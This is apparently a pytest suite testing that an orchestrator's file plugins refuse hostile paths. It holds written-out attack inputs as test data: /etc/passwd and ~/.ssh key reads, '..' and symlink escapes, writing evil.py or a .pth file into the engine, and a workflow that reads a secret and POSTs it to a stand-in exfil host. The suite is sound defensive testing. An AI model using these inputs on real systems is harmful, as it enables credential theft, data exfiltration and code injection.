"""Hostile paths for the file-touching built-ins: a definition author (or whoever sends an
event) names a file outside the worker's file roots, or one of the engine's own files. Each is
refused, naming the path, where it resolves to and how to allow it, and nothing is read,
written, moved or created.

The roots are set the way an operator sets them, in ``ORCHESTRATOR_FILE_ROOTS`` (here: one
``root`` directory per test; ``outside`` is its sibling). Plugins are called as the engine
calls them (configuration checked by the plugin's model first); the last tests run the same
attacks as real executions on the dev server.
"""

from __future__ import annotations

import asyncio
import os
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from engine import (
    AdvancedPluginOrchestrator,
    ConnectionType,
    PluginError,
    PluginErrorCode,
    PluginWorkflow,
    WorkflowConnection,
    WorkflowExecutionMode,
    WorkflowExecutionStatus,
    WorkflowNode,
    WorkflowNodeType,
)
from engine.temporal.blobs import BlobStore
from plugins import Plugin, PluginContext
from plugins.builtin import (
    csv_processor_plugin,
    data_sink_plugin,
    data_source_plugin,
    error_handler_plugin,
    file_validator_plugin,
)
from plugins.builtin.database_writer import database_writer_plugin, dispose_engines
from plugins.builtin.file_system_monitor import open_file_system_monitor
from plugins.builtin.jsonl_source import open_jsonl_source
from tests.helpers.builders import edge, node, workflow
from tests.helpers.plugin_config import call
from tests.helpers.waiting import eventually

SECRET = "name,secret\nroot,hunter2\n"


@dataclass
class Zones:
    root: Path  # the only file root
    outside: Path  # a sibling of the root, outside it

    def secret(self) -> Path:
        path = self.outside / "secret.csv"
        path.write_text(SECRET)
        return path


@pytest.fixture(name="zones")
def fixture_zones(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Zones]:
    root, outside = tmp_path / "root", tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    monkeypatch.setenv("ORCHESTRATOR_FILE_ROOTS", str(root))
    monkeypatch.setenv("ORCHESTRATOR_DATA_DIR", str(root / "data"))
    yield Zones(root, outside)
    dispose_engines()


def ctx(node_id: str = "n") -> PluginContext:
    return PluginContext(
        execution_id="hostile/run-1",
        workflow_id="hostile",
        node_id=node_id,
        plugin_id="p",
        attempt=1,
        idempotency_key="k",
    )


def refused(plugin: Plugin, inputs: dict[str, Any], config: dict[str, Any]) -> str:
    """The refusal's message (a non-retryable PluginExecutionFailed)."""
    with pytest.raises(PluginError) as info:
        call(plugin, inputs, config, ctx())
    assert info.value.code is PluginErrorCode.PluginExecutionFailed, info.value
    assert "refused" in info.value.message, info.value.message
    return info.value.message


def tree(directory: Path) -> list[str]:
    return sorted(str(path.relative_to(directory)) for path in directory.rglob("*"))


# -- reading ---------------------------------------------------------------------------------


def test_a_definition_cannot_read_etc_passwd(zones: Zones) -> None:
    # As CSV with ':' the file would be read happily: only the policy stops it.
    config = {"path": "/etc/passwd", "format": "csv", "delimiter": ":"}
    message = refused(data_source_plugin, {}, config)
    assert "config 'path' '/etc/passwd'" in message
    assert "outside the directories the worker's plugins may use" in message
    assert str(zones.root) in message
    assert "ORCHESTRATOR_FILE_ROOTS" in message
    assert "root:x:0" not in message


def test_dot_dot_cannot_climb_out_of_a_root(zones: Zones) -> None:
    secret = zones.secret()
    climbing = f"{zones.root}/sub/../../outside/secret.csv"
    message = refused(data_source_plugin, {}, {"path": climbing})
    assert f"resolves to {secret}" in message
    assert "hunter2" not in message


def test_a_symlink_in_a_root_cannot_point_outside(zones: Zones) -> None:
    secret = zones.secret()
    (zones.root / "link.csv").symlink_to(secret)
    (zones.root / "dir").symlink_to(zones.outside, target_is_directory=True)
    for path in (zones.root / "link.csv", zones.root / "dir" / "secret.csv"):
        assert f"resolves to {secret}" in refused(data_source_plugin, {}, {"path": str(path)})
        refused(csv_processor_plugin, {}, {"path": str(path)})
        refused(file_validator_plugin, {}, {"path": str(path)})
    # Writing through the linked directory is refused too, and nothing lands outside.
    refused(data_sink_plugin, {"records": [{"a": 1}]}, {"path": str(zones.root / "dir/x.jsonl")})
    assert tree(zones.outside) == ["secret.csv"]


def test_an_event_payload_cannot_name_a_file_outside_the_roots(zones: Zones) -> None:
    secret = zones.secret()
    # The path arrives as data: send_event's payload, or an upstream node's output.
    for inputs in ({"path": str(secret)}, {"file_watcher": {"path": str(secret)}}):
        message = refused(file_validator_plugin, inputs, {"extensions": [".csv"]})
        assert "input '" in message
        refused(csv_processor_plugin, inputs, {"output_dir": str(zones.root / "summaries")})
    assert not (zones.root / "summaries").exists()


def test_the_engines_own_files_are_refused_inside_a_root(
    zones: Zones, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = zones.root / "blobs"
    monkeypatch.setenv("ORCHESTRATOR_BLOB_STORE", str(store))
    BlobStore.from_env().key  # noqa: B018 (creates the store's .blob-key, as a worker does)
    key_file = store / ".blob-key"
    assert key_file.is_file()
    message = refused(data_source_plugin, {}, {"path": str(key_file), "format": "json"})
    assert f"the blob store {store}" in message
    assert "whatever ORCHESTRATOR_FILE_ROOTS allows" in message

    data = zones.root / "data"
    data.mkdir()
    (data / "temporal.db").write_bytes(b"SQLite format 3\x00")
    (data / "server.json").write_text('{"pid": 1}')
    assert "data directory" in refused(data_source_plugin, {}, {"path": str(data / "server.json")})
    keys = zones.root / "keys.txt"
    keys.write_text("k1:" + "A" * 44)
    monkeypatch.setenv("ORCHESTRATOR_ENCRYPTION_KEYS_FILE", str(keys))
    monkeypatch.setenv("TEMPORAL_TLS_KEY", str(zones.root / "client.key"))
    message = refused(data_source_plugin, {}, {"path": str(keys), "format": "csv"})
    assert "ORCHESTRATOR_ENCRYPTION_KEYS_FILE" in message
    config = {"path": str(zones.root / "client.key"), "format": "jsonl"}
    refused(data_sink_plugin, {"records": [{"a": 1}]}, config)
    assert not (zones.root / "client.key").exists()
    # The data directory's outputs stay open (data_sink writes there without a path).
    written = call(data_sink_plugin, {"records": [{"a": 1}]}, {}, ctx("out"))
    assert written["path"] == str(data / "outputs" / "hostile_run-1" / "out.jsonl")


def test_the_engines_code_and_environment_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    repo = Path(__file__).resolve().parents[2]
    monkeypatch.setenv("ORCHESTRATOR_FILE_ROOTS", str(repo))
    target = repo / "plugins" / "builtin" / "evil.py"
    config = {"path": str(target), "format": "jsonl"}
    assert "the engine's code" in refused(data_sink_plugin, {"records": [{"a": 1}]}, config)
    assert not target.exists()
    import sys

    site = Path(sys.prefix) / "lib" / "evil.pth"
    refused(data_sink_plugin, {"records": [{"a": 1}]}, {"path": str(site), "format": "jsonl"})
    assert not site.exists()


def test_a_fifo_in_a_root_is_refused_without_blocking(zones: Zones) -> None:
    fifo = zones.root / "pipe.csv"
    os.mkfifo(fifo)
    # Opening a FIFO to read would wait for a writer forever; it is refused at once.
    assert "not a regular file (a FIFO)" in refused(data_source_plugin, {}, {"path": str(fifo)})
    assert "a FIFO" in refused(csv_processor_plugin, {}, {"path": str(fifo)})


# -- writing, moving, watching ---------------------------------------------------------------


def test_data_sink_cannot_write_outside(zones: Zones) -> None:
    target = zones.outside / "out.jsonl"
    message = refused(data_sink_plugin, {"records": [{"a": 1}]}, {"path": str(target)})
    assert f"'{target}'" in message
    assert tree(zones.outside) == []


def test_error_handler_cannot_move_or_write_outside(zones: Zones) -> None:
    dropped = zones.root / "bad.csv"
    dropped.write_text("x\n")
    inputs = {"check": {"path": str(dropped), "errors": ["bad"]}}
    config = {"report_dir": str(zones.root / "errors"), "quarantine_dir": str(zones.outside)}
    assert "config 'quarantine_dir'" in refused(error_handler_plugin, inputs, config)
    # Refused before anything happened: the file is where it was, no report was written.
    assert dropped.read_text() == "x\n"
    assert tree(zones.outside) == []
    assert not (zones.root / "errors").exists()

    config = {"report_dir": str(zones.outside / "reports")}
    assert "config 'report_dir'" in refused(error_handler_plugin, inputs, config)
    assert tree(zones.outside) == []

    # A source path outside (from data) is not moved from there either.
    secret = zones.secret()
    inputs = {"check": {"path": str(secret), "errors": ["bad"]}}
    config = {"report_dir": str(zones.root / "errors"), "quarantine_dir": str(zones.root / "q")}
    refused(error_handler_plugin, inputs, config)
    assert secret.read_text() == SECRET
    assert not (zones.root / "q").exists()


@pytest.mark.parametrize(
    "url",
    [
        "sqlite:///{outside}/stolen.db",
        "sqlite:///file:{outside}/stolen.db?uri=true",
        "sqlite:///file://localhost{outside}/stolen.db?uri=true",
        "sqlite+pysqlite:///{root}/../outside/stolen.db",
    ],
)
def test_a_sqlite_url_outside_the_roots_is_refused(zones: Zones, url: str) -> None:
    url = url.format(outside=zones.outside, root=zones.root)
    message = refused(database_writer_plugin, {"records": [{"id": 1}]}, {"url": url, "table": "t"})
    assert "its SQLite file" in message
    assert tree(zones.outside) == []


def test_the_embedded_servers_database_is_refused(zones: Zones) -> None:
    data = zones.root / "data"
    data.mkdir()
    database = data / "temporal.db"
    database.write_bytes(b"")
    config = {"url": f"sqlite:///{database}", "table": "executions"}
    assert "data directory" in refused(database_writer_plugin, {"records": [{"id": 1}]}, config)
    assert database.read_bytes() == b""


async def test_sources_cannot_watch_or_read_outside(zones: Zones) -> None:
    zones.secret()
    for opener, config in (
        (open_jsonl_source, {"path": str(zones.outside)}),
        (open_file_system_monitor, {"watch_path": str(zones.outside)}),
        (open_file_system_monitor, {"watch_path": str(zones.outside / "new"), "create": True}),
    ):
        with pytest.raises(PluginError) as info:
            await opener.open(config, None, ctx())
        assert info.value.code is PluginErrorCode.PluginExecutionFailed
        assert "ORCHESTRATOR_FILE_ROOTS" in info.value.message
    assert tree(zones.outside) == ["secret.csv"]  # "new" was not created


async def test_a_watched_zone_swapped_for_a_link_fails_the_source(zones: Zones) -> None:
    zone = zones.root / "zone"
    zone.mkdir()
    source = await open_file_system_monitor.open(
        {"watch_path": str(zone), "settle_seconds": 0, "poll_interval": 0.05}, None, ctx()
    )
    try:
        assert await source.read(10, 0.2) == []
        zone.rmdir()
        zone.symlink_to(zones.outside, target_is_directory=True)
        zones.secret()
        with pytest.raises(PluginError) as info:
            await source.read(10, 1.0)
        assert info.value.code is PluginErrorCode.PluginExecutionFailed
        assert f"resolves to {zones.outside}, which is refused" in info.value.message
    finally:
        await source.close()


def test_relative_paths_resolve_from_the_working_directory(
    zones: Zones, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(zones.outside)
    message = refused(data_sink_plugin, {"records": [{"a": 1}]}, {"path": "out.jsonl"})
    assert f"resolves to {zones.outside / 'out.jsonl'}" in message
    assert tree(zones.outside) == []


def test_a_malformed_roots_setting_is_a_configuration_error(
    zones: Zones, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ORCHESTRATOR_FILE_ROOTS", f"{zones.root}{os.pathsep}relative/dir")
    with pytest.raises(PluginError) as info:
        call(data_sink_plugin, {"records": []}, {"path": str(zones.root / "x.jsonl")}, ctx())
    assert info.value.code is PluginErrorCode.InvalidConfiguration
    assert "'relative/dir', which is not an absolute directory path" in info.value.message


def test_default_roots_are_the_working_directory_unless_it_holds_home(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("ORCHESTRATOR_FILE_ROOTS")
    home = tmp_path / "home"
    project = home / "project"
    project.mkdir(parents=True)
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("ORCHESTRATOR_DATA_DIR", str(tmp_path / "data"))

    monkeypatch.chdir(project)  # a project directory: it is a root
    written = call(data_sink_plugin, {"records": [{"a": 1}]}, {"path": "o.jsonl"}, ctx())
    assert written["count"] == 1
    assert (project / "o.jsonl").is_file()

    monkeypatch.chdir(home)  # started from ~: ~/.ssh must not become readable
    message = refused(data_source_plugin, {}, {"path": ".ssh/id_ed25519", "format": "csv"})
    assert f"the working directory {home} is not one: it holds the home directory" in message


# -- the same attacks as executions on the dev server ----------------------------------------


async def test_an_execution_cannot_exfiltrate_a_file_over_http(
    orchestrator: AdvancedPluginOrchestrator, worker: object, unique, zones: Zones
) -> None:
    secret = zones.secret()
    definition = workflow(
        unique("exfiltrate"),
        [
            node("read", "data_source", path=str(secret)),
            node("send", "http_request", url="https://exfil.invalid/collect", method="POST"),
        ],
        [edge("read", "send")],
        mode=WorkflowExecutionMode.Sequential,
    )
    await orchestrator.register_workflow(definition)
    execution_id = await orchestrator.execute_workflow(definition.workflow_id)
    context = await orchestrator.wait_for_completion(execution_id, 60)
    assert context.status is WorkflowExecutionStatus.Failed
    read = context.node_states["read"]
    assert read["attempts"] == 1  # refused once, not retried
    assert read["error"]["type"] == "PluginExecutionFailed"
    assert f"'{secret}'" in read["error"]["message"]
    assert "ORCHESTRATOR_FILE_ROOTS" in read["error"]["message"]
    assert context.node_states["send"]["status"] != "completed"
    assert "hunter2" not in str(context.to_json())


async def test_an_event_cannot_make_the_validator_open_a_file_outside(
    orchestrator: AdvancedPluginOrchestrator, worker: object, unique, zones: Zones
) -> None:
    inside = zones.root / "ok.csv"
    inside.write_text("a,b\n1,2\n")
    inbox = WorkflowNode(
        node_id="inbox",
        plugin_id="numbers",
        node_type=WorkflowNodeType.Source,
        configuration={"count": 0},
    )
    definition = PluginWorkflow(
        workflow_id=unique("event-paths"),
        execution_mode=WorkflowExecutionMode.EventDriven,
        nodes=[inbox, node("check", "file_validator")],
        connections=[
            WorkflowConnection(
                source_node="inbox", target_node="check", connection_type=ConnectionType.Event
            )
        ],
    )
    await orchestrator.register_workflow(definition)
    execution_id = await orchestrator.execute_workflow(definition.workflow_id)
    try:
        await orchestrator.send_event(execution_id, "file", {"path": "/etc/passwd"}, event_id="a")
        failed = await eventually(
            lambda: orchestrator.get_execution_status(execution_id),
            lambda c: c.node_states["check"]["counters"].get("failed", 0) == 1,
        )
        error = failed.node_states["check"]["error"]
        assert "failed after 1 attempt: PluginExecutionFailed: input 'path' '/etc/passwd'" in error
        assert "ORCHESTRATOR_FILE_ROOTS" in error
        # The same pass with a path inside the roots works: the policy was the reason.
        await orchestrator.send_event(execution_id, "file", {"path": str(inside)}, event_id="b")
        passed = await eventually(
            lambda: orchestrator.get_execution_status(execution_id),
            lambda c: c.node_states["check"]["counters"].get("completed", 0) == 1,
        )
        assert passed.node_states["check"]["result"]["file_valid"] is True
    finally:
        await orchestrator.cancel_execution(execution_id)
        await asyncio.wait_for(orchestrator.wait_for_completion(execution_id, 30), 40)
